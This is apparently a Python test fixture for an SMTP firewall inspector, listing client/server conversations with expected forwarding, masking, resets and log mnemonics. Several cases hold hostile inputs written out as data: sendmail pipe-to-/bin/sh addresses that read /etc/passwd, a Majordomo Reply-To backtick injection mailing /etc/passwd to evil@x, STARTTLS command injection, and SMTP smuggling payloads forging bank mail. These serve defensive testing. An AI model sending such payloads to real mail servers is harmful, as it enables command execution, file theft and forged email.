"""A corpus of SMTP/ESMTP conversations for tests/test_smtp.py.

Each :class:`Conv` is a list of events in causal order, ``C(...)`` from the
client and ``S(...)`` from the server, with what the other side must
receive (``out``; default: the bytes unchanged), the IOS mnemonics logged
in order, and whether the session ends reset or opaque.  When a
conversation is reset, the last event's ``out`` is the prefix the
firewall still forwarded, and no event follows it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from cbac.inspect.api import CLIENT, SERVER


@dataclass
class Conv:
    name: str
    proto: str                       # smtp / esmtp
    events: list
    logs: list = field(default_factory=list)
    reset: bool = False
    opaque: bool = False
    starttls: str = "allow"
    bare_lf: str = "reject"
    max_data: Optional[int] = None


def C(data, out=None):
    return (CLIENT, data, data if out is None else out)


def S(data, out=None):
    return (SERVER, data, data if out is None else out)


def X(line: bytes) -> bytes:
    """A client line as the server receives it when masked."""
    term = b"\r\n" if line.endswith(b"\r\n") else b"\n" if line.endswith(b"\n") else b""
    return b"x" * (len(line) - len(term)) + term


def XR(line: bytes) -> bytes:
    """An EHLO reply line with its keyword masked (``250-XXXX``)."""
    term = b"\r\n" if line.endswith(b"\r\n") else b"\n"
    return line[:4] + b"X" * (len(line) - 4 - len(term)) + term


def CX(line):
    """A client line that the firewall masks."""
    return C(line, X(line))


GREET = S(b"220 mail.example.com ESMTP Postfix\r\n")
GREET_SMTP = S(b"220 mail.example.com Sendmail 8.6 ready\r\n")
OK = S(b"250 2.0.0 Ok\r\n")
E500 = S(b"500 5.5.2 Error: command not recognized\r\n")
BYE = [C(b"QUIT\r\n"), S(b"221 2.0.0 Bye\r\n")]

POSTFIX_EHLO = [
    b"250-mail.example.com\r\n",
    b"250-PIPELINING\r\n",
    b"250-SIZE 20480000\r\n",
    b"250-VRFY\r\n",
    b"250-ETRN\r\n",
    b"250-STARTTLS\r\n",
    b"250-ENHANCEDSTATUSCODES\r\n",
    b"250-8BITMIME\r\n",
    b"250-DSN\r\n",
    b"250-SMTPUTF8\r\n",
    b"250 CHUNKING\r\n",
]
_MASKED_EHLO = {b"250-VRFY\r\n"}


def ehlo_reply(lines=POSTFIX_EHLO, masked=_MASKED_EHLO):
    data = b"".join(lines)
    out = b"".join(XR(l) if l in masked else l for l in lines)
    return S(data, out)


EHLO = [C(b"EHLO client.example.org\r\n"), ehlo_reply()]

BODY = (b"From: a@example.org\r\nTo: b@example.com\r\nSubject: test\r\n\r\n"
        b"Hello,\r\n..a dot-stuffed line\r\nVRFY root\r\nDEBUG\r\n. \r\n.x\r\n"
        b"line with bare LF\n in the middle and a dot. here\r\n")

CORPUS = [
    Conv("plain_smtp", "smtp", [
        GREET_SMTP,
        C(b"HELO client.example.org\r\n"), S(b"250 mail.example.com Hello\r\n"),
        C(b"MAIL FROM:<a@example.org>\r\n"), S(b"250 Sender ok\r\n"),
        C(b"RCPT TO:<b@example.com>\r\n"), S(b"250 Recipient ok\r\n"),
        C(b"DATA\r\n"), S(b"354 Enter mail, end with \".\" on a line by itself\r\n"),
        C(BODY + b".\r\n"), S(b"250 Message accepted\r\n"),
        C(b"RSET\r\n"), OK, C(b"NOOP\r\n"), OK, C(b"HELP\r\n"),
        S(b"214-This is Sendmail\r\n214 End of HELP info\r\n"),
        C(b"SAML FROM:<a@example.org>\r\n"), OK,
    ] + BYE),

    Conv("smtp_mode_refuses_esmtp", "smtp", [
        GREET_SMTP,
        CX(b"EHLO client.example.org\r\n"), E500,
        C(b"helo client.example.org\r\n"), S(b"250 Hello\r\n"),
        CX(b"AUTH PLAIN AGEAYg==\r\n"), E500,
        CX(b"STARTTLS\r\n"), E500,
        CX(b"ETRN example.org\r\n"), E500,
    ] + BYE, logs=["SMTP_INVALID_COMMAND"] * 4),

    Conv("illegal_commands", "esmtp", [
        GREET] + EHLO + [
        CX(b"VRFY root\r\n"), E500,
        CX(b"EXPN staff\r\n"), E500,
        CX(b"TURN\r\n"), E500,
        CX(b"XYZZY plugh\r\n"), E500,
        CX(b"wiz\r\n"), E500,
        CX(b"DEBUG\r\n"), E500,
        CX(b"HELOX\r\n"), E500,
        CX(b"  SAML FROM:<a@b>\r\n"), E500,
        CX(b"NOOP\rVRFY root\r\n"), E500,
        CX(b"XCLIENT NAME=spoofed\r\n"), E500,
        C(b"   noop\r\n"), OK,
        C(b"Noop\n"), OK,
        C(b"\r\n"), S(b"500 5.5.2 Error: bad syntax\r\n"),
    ] + BYE, logs=["SMTP_INVALID_COMMAND"] * 4 + ["TCP_SENDMAIL_OLD_SIG", "SMTP_INVALID_COMMAND"] * 2
        + ["SMTP_INVALID_COMMAND"] * 4),

    Conv("esmtp_postfix_pipelining_dsn", "esmtp", [
        GREET] + EHLO + [
        C(b"MAIL FROM:<a@example.org> SIZE=1234 BODY=8BITMIME RET=HDRS ENVID=QQ314159\r\n"
          b"RCPT TO:<b@example.com> NOTIFY=SUCCESS,FAILURE ORCPT=rfc822;b@example.com\r\n"
          b"RCPT TO:<c@example.com>\r\nDATA\r\n"),
        S(b"250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n"), S(b"250 2.1.5 Ok\r\n"),
        S(b"354 End data with <CR><LF>.<CR><LF>\r\n"),
        C(BODY), C(b"\r\n.\r\n"), S(b"250 2.0.0 Ok: queued as 4F2C\r\n"),
        C(b"MAIL FROM:<> SMTPUTF8\r\nRCPT TO:<d@example.com>\r\nRSET\r\n"),
        S(b"250 2.1.0 Ok\r\n550 5.1.1 no such user\r\n250 2.0.0 Ok\r\n"),
        C(b"ETRN example.org\r\n"), S(b"250 Queuing started\r\n"),
    ] + BYE),

    Conv("body_pipelined_before_354", "esmtp", [
        GREET] + EHLO + [
        C(b"MAIL FROM:<a@example.org>\r\nRCPT TO:<b@example.com>\r\nDATA\r\n"
          b"Subject: x\r\n\r\nVRFY root\r\nEXPN all\r\n.\r\nQUIT\r\n"),
        S(b"250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n354 go ahead\r\n"),
        S(b"250 2.0.0 Ok: queued\r\n221 2.0.0 Bye\r\n"),
    ]),

    Conv("data_refused_then_commands", "esmtp", [
        GREET] + EHLO + [
        C(b"MAIL FROM:<a@example.org>\r\nRCPT TO:<nobody@example.com>\r\nDATA\r\n"
          b"VRFY root\r\nNOOP\r\n",
          b"MAIL FROM:<a@example.org>\r\nRCPT TO:<nobody@example.com>\r\nDATA\r\n"
          + X(b"VRFY root\r\n") + b"NOOP\r\n"),
        S(b"250 2.1.0 Ok\r\n550 5.1.1 unknown user\r\n554 5.5.1 Error: no valid recipients\r\n"),
        E500, OK,
    ] + BYE, logs=["SMTP_INVALID_COMMAND"]),

    Conv("empty_message_and_dot_lines", "smtp", [
        GREET_SMTP, C(b"HELO x\r\n"), OK,
        C(b"MAIL FROM:<a@b>\r\n"), OK, C(b"RCPT TO:<c@d>\r\n"), OK,
        C(b"DATA\r\n"), S(b"354 go\r\n"), C(b".\r\n"), OK,
        C(b"MAIL FROM:<a@b>\r\n"), OK, C(b"RCPT TO:<c@d>\r\n"), OK,
        C(b"DATA\r\n"), S(b"354 go\r\n"),
        C(b"..\r\n...\r\n.\t\r\n\r\n\r\n.\r\n"), OK,
    ] + BYE),

    Conv("auth_plain_and_login", "esmtp", [
        GREET, C(b"EHLO c\r\n"),
        ehlo_reply([b"250-mail.example.com\r\n", b"250-AUTH PLAIN LOGIN CRAM-MD5\r\n",
                    b"250-AUTH=PLAIN LOGIN\r\n", b"250-XEXCH50\r\n", b"250-X-LINK2STATE\r\n",
                    b"250 HELP\r\n"], {b"250-XEXCH50\r\n", b"250-X-LINK2STATE\r\n"}),
        C(b"AUTH PLAIN AHVzZXIAc2VjcmV0\r\n"), S(b"535 5.7.8 Authentication failed\r\n"),
        C(b"AUTH LOGIN\r\n"), S(b"334 VXNlcm5hbWU6\r\n"),
        C(b"dXNlcg==\r\n"), S(b"334 UGFzc3dvcmQ6\r\n"),
        C(b"c2VjcmV0\r\n"), S(b"235 2.7.0 Authentication successful\r\n"),
        C(b"AUTH CRAM-MD5\r\n"), S(b"334 PDQxOTI5NDIzNDEuMTI4Mjg0NzJAc291cmNlZm91ci5hbmRyZXcuY211LmVkdT4=\r\n"),
        C(b"*\r\n"), S(b"501 5.7.0 Authentication aborted\r\n"),
        CX(b"VRFY x\r\n"), E500,
        C(b"AUTH LOGIN dXNlcg==\r\n"), S(b"334 UGFzc3dvcmQ6\r\n"),
        C(b"VRFY root\r\n"), S(b"535 5.7.8 Authentication failed\r\n"),
    ] + BYE, logs=["SMTP_INVALID_COMMAND"]),

    Conv("bdat_chunking_binarymime", "esmtp", [
        GREET] + EHLO + [
        C(b"MAIL FROM:<a@example.org> BODY=BINARYMIME\r\nRCPT TO:<b@example.com>\r\n"
          b"BDAT 23\r\n\x00\x01VRFY root\r\n\r\n.\r\n\xff\xfe\n.\n"),
        S(b"250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n250 2.0.0 Ok: 24 bytes\r\n"),
        C(b"BDAT 0\r\n"), S(b"250 2.0.0 Ok: 0 bytes\r\n"),
        C(b"bdat 7 last\r\nDEBUG\r\n"), S(b"250 2.0.0 Ok: 31 bytes queued\r\n"),
        CX(b"BDAT x12\r\n"), E500,
    ] + BYE, logs=["SMTP_INVALID_COMMAND"]),

    Conv("bdat_without_chunking", "esmtp", [
        GREET, C(b"EHLO c\r\n"),
        ehlo_reply([b"250-mail.example.com\r\n", b"250 PIPELINING\r\n"], set()),
        C(b"MAIL FROM:<a@b>\r\n"), OK, C(b"RCPT TO:<c@d>\r\n"), OK,
        C(b"BDAT 12\r\nVRFY root\r\n", X(b"BDAT 12\r\n") + X(b"VRFY root\r\n")),
        E500, E500,
    ] + BYE, logs=["SMTP_INVALID_COMMAND"] * 2),

    Conv("bdat_after_helo", "esmtp", [
        GREET] + EHLO + [
        C(b"HELO c\r\n"), OK,
        C(b"MAIL FROM:<a@b>\r\n"), OK, C(b"RCPT TO:<c@d>\r\n"), OK,
        C(b"BDAT 11\r\nVRFY root\r\n", X(b"BDAT 11\r\n") + X(b"VRFY root\r\n")),
        E500, E500,
    ] + BYE, logs=["SMTP_INVALID_COMMAND"] * 2),

    Conv("starttls_allow", "esmtp", [
        GREET] + EHLO + [
        C(b"STARTTLS\r\n"), S(b"220 2.0.0 Ready to start TLS\r\n"),
        C(b"\x16\x03\x01\x00\x05VRFY\r\n"), S(b"\x16\x03\x03\x00\x02\r\n"),
        C(b"\x17\x03\x03\x00\x10DEBUG root\r\n.\n\x00\x00"),
    ], logs=["SMTP_STARTTLS"], opaque=True),

    Conv("starttls_refused_by_server", "esmtp", [
        GREET] + EHLO + [
        C(b"STARTTLS\r\nVRFY a\r\n", b"STARTTLS\r\n" + X(b"VRFY a\r\n")),
        S(b"454 4.7.0 TLS not available\r\n"), E500,
    ] + BYE, logs=["SMTP_INVALID_COMMAND"]),

    Conv("starttls_strip", "esmtp", [
        GREET, C(b"EHLO c\r\n"),
        ehlo_reply(POSTFIX_EHLO, _MASKED_EHLO | {b"250-STARTTLS\r\n"}),
        CX(b"STARTTLS\r\n"), S(b"500 5.5.1 command not recognized\r\n"),
    ] + BYE, logs=["SMTP_INVALID_COMMAND"], starttls="strip"),

    Conv("starttls_injection", "esmtp", [
        GREET] + EHLO + [
        C(b"STARTTLS\r\nRCPT TO:<attacker@evil>\r\n", b"STARTTLS\r\n"),
        S(b"220 2.0.0 Ready to start TLS\r\n"),
    ], logs=["SMTP_STARTTLS_INJECTION"], reset=True),

    Conv("size_over_max_data", "esmtp", [
        GREET] + EHLO + [
        CX(b"MAIL FROM:<a@b> SIZE=30000000\r\n"), E500,
        C(b"MAIL FROM:<a@b> SIZE=20000000\r\n"), OK,
        CX(b"RCPT TO:<c@d> BY=120;R\r\n"), E500,
        CX(b"MAIL FROM:<a@b> BODY=BASE64\r\n"), E500,
    ] + BYE, logs=["SMTP_MAX_DATA", "SMTP_INVALID_COMMAND", "SMTP_INVALID_COMMAND"]),

    Conv("max_data_overflow", "smtp", [
        GREET_SMTP, C(b"HELO x\r\n"), OK,
        C(b"MAIL FROM:<a@b>\r\n"), OK, C(b"RCPT TO:<c@d>\r\n"), OK,
        C(b"DATA\r\n"), S(b"354 go\r\n"),
        C(b"0123456789" * 3 + b"\r\n"), C(b"0123456789" * 3 + b"\r\n", b"0123456789" * 1 + b"0123"),
    ], logs=["SMTP_MAX_DATA"], reset=True, max_data=46),

    Conv("max_data_across_messages", "esmtp", [
        GREET] + EHLO + [
        C(b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n"),
        S(b"250 ok\r\n250 ok\r\n354 go\r\n"),
        C(b"x" * 20 + b"\r\n.\r\n"), S(b"250 queued\r\n"),
        C(b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nBDAT 30 LAST\r\n" + b"y" * 30,
          b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nBDAT 30 LAST\r\n" + b"y" * 18),
    ], logs=["SMTP_MAX_DATA"], reset=True, max_data=40),

    Conv("max_data_exact_fit", "smtp", [
        GREET_SMTP, C(b"HELO x\r\n"), OK,
        C(b"MAIL FROM:<a@b>\r\n"), OK, C(b"RCPT TO:<c@d>\r\n"), OK,
        C(b"DATA\r\n"), S(b"354 go\r\n"),
        C(b"0123456789\r\n.\r\n"), OK,
    ] + BYE, max_data=12),

    Conv("malformed_replies", "esmtp", [
        S(b"220-mail.example.com ESMTP\r\n220-second line\r\n220 last\r\n"),
        C(b"EHLO c\r\n"),
        S(b"250-mail.example.com\r\n250-PIPELINING\r\n251 8BITMIME\r\n"),
        C(b"NOOP\r\n"), S(b"hello there\r\n"), S(b"25\r\n"), S(b"2500 ok\r\n"), S(b"250\r\n"),
        C(b"NOOP\r\n"), S(b"699 weird\r\n"), S(b"250 ok\n"),
        S(b"421 4.4.2 timeout\r\n"),
    ], logs=["SMTP_INVALID_REPLY"] * 5),

    Conv("sendmail_signatures", "esmtp", [
        GREET] + EHLO + [
        C(b"MAIL FROM:<|/usr/bin/tail|/bin/sh>\r\n", X(b"MAIL FROM:<|/usr/bin/tail|/bin/sh>\r\n")), E500,
        C(b"MAIL FROM:<a@b>\r\n"), OK,
        CX(b"RCPT TO:<\"|/bin/sh -c 'cat /etc/passwd'\"@b>\r\n"), E500,
        CX(b"RCPT TO:<decode@example.com>\r\n"), E500,
        CX(b"RCPT TO:<UUDECODE>\r\n"), E500,
        C(b"RCPT TO:<decoder@example.com>\r\n"), OK,
    ] + BYE, logs=["TCP_SENDMAIL_BAD_FROM_SIG", "TCP_SENDMAIL_BAD_TO_SIG",
                   "TCP_SENDMAIL_DECODE", "TCP_SENDMAIL_DECODE"]),

    Conv("majordomo", "smtp", [
        GREET_SMTP, C(b"HELO x\r\n"), OK,
        C(b"MAIL FROM:<a@b>\r\n"), OK, C(b"RCPT TO:<majordomo@d>\r\n"), OK,
        C(b"DATA\r\n"), S(b"354 go\r\n"),
        C(b"From: a@b\r\nReply-To: a~.`/bin/mail evil@x < /etc/passwd`\r\n\r\nlists\r\n",
          b"From: a@b\r\n"),
    ], logs=["TCP_MAJORDOMO_EXEC_BUG"], reset=True),

    Conv("reply_to_in_body_is_fine", "smtp", [
        GREET_SMTP, C(b"HELO x\r\n"), OK,
        C(b"MAIL FROM:<a@b>\r\n"), OK, C(b"RCPT TO:<c@d>\r\n"), OK,
        C(b"DATA\r\n"), S(b"354 go\r\n"),
        C(b"From: a@b\r\nReply-To: <a@b>\r\n\r\nReply-To: a~.`ls`\r\n.\r\n"), OK,
    ] + BYE),

    Conv("long_lines", "esmtp", [
        GREET] + EHLO + [
        C(b"MAIL FROM:<" + b"a" * 600 + b"@example.org>\r\n"), OK,
        C(b"NOOP " + b"n" * 2041 + b"\r\n"), OK,
        CX(b"NOOP " + b"n" * 2042 + b"\r\n"), E500,
        CX(b"NOOP " + b"n" * 2043 + b"VRFY root\r\n"), E500,
        CX(b"VRFY " + b"v" * 20000 + b"\n"), E500,
        C(b" auth XOAUTH2 " + b"t" * 12272 + b"\r\n"), S(b"334 eyJzdGF0dXMiOiI0MDEifQ==\r\n"),
        C(b"s" * 12286 + b"\r\n"), S(b"535 5.7.8 failed\r\n"),
        CX(b"AUTH XOAUTH2 " + b"t" * 12274 + b"\r\n"), E500,
    ] + BYE, logs=["SMTP_INVALID_COMMAND"] * 4),
]

# SMTP smuggling: a dot line next to a bare CR or LF, default reject.
_SMUGGLE_TAILS = [
    b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r.\r\n", b"\r\n.\rX",
]
for _i, _tail in enumerate(_SMUGGLE_TAILS):
    _pre = b"Subject: hi\r\n\r\nbody"
    _cut = _pre + _tail[:_tail.index(b".")]
    CORPUS.append(Conv("smuggling_%d" % _i, "esmtp", [
        GREET] + EHLO + [
        C(b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n"),
        S(b"250 ok\r\n250 ok\r\n354 go\r\n"),
        C(_pre + _tail + b"MAIL FROM:<admin@bank>\r\nRCPT TO:<victim@d>\r\nDATA\r\nforged\r\n.\r\n",
          _cut),
    ], logs=["SMTP_BARE_LF"], reset=True))
    CORPUS.append(Conv("smuggling_allowed_%d" % _i, "esmtp", [
        GREET] + EHLO + [
        C(b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n"),
        S(b"250 ok\r\n250 ok\r\n354 go\r\n"),
        C(_pre + _tail + b"MAIL FROM:<admin@bank>\r\nVRFY x\r\n.\r\n"), S(b"250 ok\r\n"),
    ] + BYE, bare_lf="allow"))

# a smuggling attempt right at the start of the body (after the DATA line)
CORPUS.append(Conv("smuggling_at_body_start", "esmtp", [
    GREET] + EHLO + [
    C(b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n"),
    S(b"250 ok\r\n250 ok\r\n354 go\r\n"),
    C(b".\nRSET\r\n", b""),
], logs=["SMTP_BARE_LF"], reset=True))

BY_NAME = {c.name: c for c in CORPUS}
